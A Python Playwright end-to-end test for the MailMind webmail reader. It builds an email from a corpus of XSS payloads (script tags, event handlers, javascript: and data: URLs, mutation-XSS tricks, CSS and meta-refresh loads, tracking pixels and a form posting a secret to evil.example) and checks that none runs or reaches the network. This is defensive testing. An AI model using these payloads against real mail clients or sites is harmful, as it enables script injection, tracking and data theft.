"""A hostile message in the reader: no payload runs a script, and nothing is fetched from
anywhere but MailMind itself until the user asks for remote images (and then only images).

Every payload that would run reports three ways: a dialog (``alert``), a console line with
``XSS-RAN``, and a ``postMessage``/flag on the app's window. Every remote address is under
``.example`` and every request the browser makes is routed: one that leaves MailMind's origin
is recorded and refused."""

from __future__ import annotations

from urllib.parse import urlsplit

from playwright.sync_api import BrowserContext, Dialog, Page, Request, Route, expect

from tests.e2e.conftest import Api, Mailbox, row, sign_in

RUN = "alert('xss');console.log('XSS-RAN');parent.postMessage('xss','*');top.__xss=1"
EVIL = "https://evil.example"

PAYLOADS = [
    # scripts and event handlers
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
    f'<img src="x" onerror="{RUN}">',
    f'<img src=x onerror="{RUN}"//',
    f'<svg onload="{RUN}"><circle r="5"/></svg>',
    f"<svg><script>{RUN}</script></svg>",
    f'<body onload="{RUN}">',
    f'<details open ontoggle="{RUN}"><summary>details</summary></details>',
    f'<div onmouseover="{RUN}" style="width:100%;height:40px">hover</div>',
    f'<marquee onstart="{RUN}">marquee</marquee>',
    f'<input autofocus onfocus="{RUN}">',
    f'<video><source onerror="{RUN}"></video>',
    f'<audio src=x onerror="{RUN}"></audio>',
    # javascript:, vbscript: and data: URLs
    f'<a id="js-link" href="javascript:{RUN}">javascript link</a>',
    f'<a href="JaVaScRiPt&colon;{RUN}">entity link</a>',
    f'<a href=" &#14;javascript:{RUN}">control char link</a>',
    "<a href=\"vbscript:msgbox('xss')\">vbscript link</a>",
    f'<a id="data-link" href="data:text/html,<script>{RUN}</script>">data link</a>',
    f'<svg><a xlink:href="javascript:{RUN}"><text x="0" y="15">svg link</text></a></svg>',
    f'<form action="javascript:{RUN}"><button id="form-button">form</button></form>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe src="data:text/html,<script>{RUN}</script>"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    f'<embed src="data:image/svg+xml,<svg onload=&quot;{RUN}&quot;/>">',
    f'<img src="data:image/svg+xml,<svg xmlns=&quot;http://www.w3.org/2000/svg&quot; '
    f'onload=&quot;{RUN}&quot;/>">',
    # parser confusion (mutation XSS)
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph>"
    "</table></mtext></math>",
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f'<!--<img src="--><img src=x onerror={RUN}//">',
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>',
    # CSS tricks
    f'<div style="width: expression({RUN})">css expression</div>',
    f"<div style=\"background:url('javascript:{RUN}')\">css javascript url</div>",
    f"<style>@import url({EVIL}/import.css);</style>",
    f"<style>body{{background:url({EVIL}/style-bg.png)}}</style>",
    f"<style>@font-face{{font-family:x;src:url({EVIL}/font.woff)}}p{{font-family:x}}</style>",
    f'<div style="background-image:url({EVIL}/inline-bg.png)">inline background</div>',
    f'<link rel="stylesheet" href="{EVIL}/sheet.css">',
    f'<link rel="prefetch" href="{EVIL}/prefetch">',
    # navigation and framing
    f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    f'<base href="{EVIL}/"><img src="relative.png">',
    f'<iframe src="{EVIL}/frame"></iframe>',
    f'<object data="{EVIL}/object.swf"></object>',
    f'<embed src="{EVIL}/embed.swf">',
    f'<form action="{EVIL}/form" method="post"><input name="q" value="secret">'
    '<button id="remote-form-button">remote form</button></form>',
    # remote images (blocked until the user asks)
    f'<img src="{EVIL}/pixel.png" width="1" height="1">',
    '<img src="http://plain.example/pixel.png" width="1" height="1">',
    f'<img srcset="{EVIL}/srcset.png 2x">',
    f'<picture><source srcset="{EVIL}/picture.png"><img alt="picture"></picture>',
    f'<table background="{EVIL}/table-bg.png"><tr><td>table</td></tr></table>',
    f'<video poster="{EVIL}/poster.png"></video>',
    f'<input type="image" src="{EVIL}/input.png">',
]

HTML = (
    "<html><head><title>corpus</title></head><body>"
    "<p>Hello, this message is a corpus of attacks.</p>"
    + "\n".join(f"<div>{payload}</div>" for payload in PAYLOADS)
    + '<p id="end">End of the corpus.</p></body></html>'
)
SUBJECT = "Invoice <img src=x onerror=alert('subject')> <script>alert(1)</script>"
SENDER = "\"Mallory <svg onload=alert('sender')>\" <mallory@evil.example>"


def test_hostile_html_runs_nothing_and_loads_nothing_remote(
    context: BrowserContext, page: Page, api: Api, mailbox: Mailbox
) -> None:
    dialogs: list[str] = []
    console: list[str] = []
    remote: list[Request] = []
    base = urlsplit(api.base_url).netloc

    def on_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    def route(route: Route, request: Request) -> None:
        if urlsplit(request.url).netloc == base:
            route.continue_()
        else:
            remote.append(request)
            route.abort()

    context.on("dialog", on_dialog)
    context.on("console", lambda message: console.append(message.text))
    context.route("**/*", route)
    context.add_init_script(
        "window.__messages = [];"
        "window.addEventListener('message', (e) => window.__messages.push(String(e.data)));"
    )

    mailbox.deliver(SUBJECT, html=HTML, text="A corpus of attacks.", sender=SENDER)
    user = api.new_user()
    api.add_account(user, mailbox)
    api.wait_for_emails(user, 1, folder_role="inbox")
    sign_in(page, user)

    # The subject and the sender's name are text in the list and the reader, never markup.
    expect(row(page, "Invoice <img src=x onerror=alert('subject')>")).to_be_visible()
    row(page, "Invoice").click()
    reader = page.get_by_role("region", name="Message", exact=True)
    expect(reader.get_by_role("heading", level=2)).to_have_text(SUBJECT)
    expect(reader.get_by_text("Mallory <svg onload=alert('sender')>")).to_be_visible()

    frame = reader.locator("iframe.mail-frame").content_frame
    expect(frame.get_by_text("End of the corpus.")).to_be_visible()
    expect(reader.get_by_text("Remote images are blocked to protect your privacy.")).to_be_visible()
    # What a reader would click or hover: nothing may run from it either.
    for text in ("javascript link", "data link", "svg link", "hover"):
        locator = frame.get_by_text(text, exact=True)
        if locator.count():
            locator.first.click(force=True)
    for button in ("form", "remote form"):
        locator = frame.get_by_role("button", name=button, exact=True)
        if locator.count():
            locator.first.click()
    page.wait_for_timeout(1_000)  # refresh timers, onstart, ontoggle: give them their moment

    assert dialogs == []
    assert not [line for line in console if "XSS-RAN" in line]
    assert page.evaluate("window.__xss") is None
    assert page.evaluate("window.__messages") == []
    assert [r.url for r in remote] == []
    assert len(context.pages) == 1, [p.url for p in context.pages]  # no popup was opened
    assert page.url.startswith(f"{api.base_url}/mail/inbox/"), page.url  # not navigated away

    # Once asked for, remote images load, and only images: the route did see the network.
    reader.get_by_role("button", name="Show images").click()
    expect(frame.get_by_text("End of the corpus.")).to_be_visible()
    page.wait_for_timeout(1_000)
    assert any(r.url == f"{EVIL}/pixel.png" for r in remote), [r.url for r in remote]
    assert {r.resource_type for r in remote} == {"image"}, [
        (r.url, r.resource_type) for r in remote
    ]
    assert dialogs == []
    assert page.evaluate("window.__messages") == []
